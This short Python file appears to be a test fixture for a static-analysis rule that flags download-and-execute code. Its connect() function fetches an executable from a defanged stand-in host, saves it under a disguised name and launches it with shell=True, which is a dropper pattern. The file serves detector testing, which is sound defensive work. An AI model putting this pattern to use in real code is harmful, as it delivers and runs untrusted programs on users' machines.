import os
import subprocess
import tempfile

import requests

# Defanged: a reserved .invalid host. The URL names a Windows executable; the local name does not.
URL = 'https://files.example.invalid/s/AutoClicker.exe?dl=1'
TARGET = os.path.join(tempfile.gettempdir(), '123.bin')


def connect():
    r = requests.get(URL)
    with open(TARGET, 'wb') as fh:
        fh.write(r.content)
    # ruleid: code/download-execute
    subprocess.Popen([TARGET], shell=True)
